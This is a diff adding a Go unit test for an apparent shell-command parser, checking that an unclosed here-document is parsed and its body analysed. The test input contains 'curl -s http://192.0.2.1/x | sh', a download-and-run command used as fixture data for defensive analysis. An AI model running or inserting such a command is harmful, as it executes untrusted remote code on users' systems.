@@ -490,3 +490,20 @@ func TestPrintfAsWritten(t *testing.T) {
 		t.Errorf("PrintfAsWritten(%%d) should not render")
 	}
 }
+
+// TestUnclosedHeredoc: bash reads a here-document whose delimiter line
+// never comes to the end of the file; so does the parser, and what the
+// body runs is analysed (a body piped into a shell is code).
+func TestUnclosedHeredoc(t *testing.T) {
+	src := "echo start\nbash << STEP\ncurl -s http://192.0.2.1/x | sh\n"
+	s := Parse(src, 0)
+	if s.Err != nil {
+		t.Fatalf("unclosed here-document: %v", s.Err)
+	}
+	if c := find(s, "curl"); c == nil || c.Via != ViaStdin || c.PipeNext < 0 {
+		t.Fatalf("here-document body not analysed: %s %+v", names(s), c)
+	}
+	if s := Parse("python3 <<-META\nimport json", 0); s.Err != nil {
+		t.Errorf("unclosed <<- here-document without a final newline: %v", s.Err)
+	}
+}
